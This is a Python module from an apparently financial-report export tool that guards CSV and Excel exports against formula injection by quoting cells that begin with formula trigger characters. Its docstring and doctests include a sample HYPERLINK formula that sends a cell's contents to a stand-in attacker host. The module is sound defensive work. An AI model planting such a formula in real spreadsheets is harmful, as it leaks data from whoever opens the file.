r"""Spreadsheet cells: text that a spreadsheet would run as a formula is neutralised.

Excel, LibreOffice and the like take a cell whose text starts with ``=``,
``+``, ``-`` or ``@`` (or with a tab or a carriage return, which they strip
first) for a formula. A name such as ``=HYPERLINK("http://evil.example/?x="&A1,"c")``
copied from a data file would then run when the exported file is opened (CSV
or formula injection, as the OWASP guidance calls it).

Both exporters take every text cell through :func:`is_formula_text`: the CSV
writer writes :func:`neutralise`'s text (a leading apostrophe, the usual
convention), the Excel writer stores the cell as a string with Excel's own
form of that apostrophe (the cell's *quote prefix*), so the text shows as
written and is never evaluated, not even once edited.

Invariant: a formatted amount (``-6.47``, ``-1,234.50``,
:func:`~govfinal.render.tables.is_amount_cell`) is a number, not text, and is
never changed: negative figures stay numbers.

>>> neutralise('=HYPERLINK("http://evil.example/","c")')
'\'=HYPERLINK("http://evil.example/","c")'
>>> neutralise("-6.47"), neutralise("科学技术支出"), neutralise("\t=1+1")
('-6.47', '科学技术支出', "'\t=1+1")
"""

from __future__ import annotations

from typing import Final

from govfinal.render.tables import is_amount_cell

__all__ = ["FORMULA_TRIGGERS", "QUOTE", "is_formula_text", "neutralise"]

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet read a cell as a formula (OWASP)."""

QUOTE: Final = "'"
"""The leading apostrophe that makes a spreadsheet read a cell as plain text."""


def is_formula_text(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula: a trigger first, not an amount."""
    return cell.startswith(FORMULA_TRIGGERS) and not is_amount_cell(cell)


def neutralise(cell: str) -> str:
    """``cell`` as text a spreadsheet shows and never runs: an apostrophe before a formula."""
    return QUOTE + cell if is_formula_text(cell) else cell
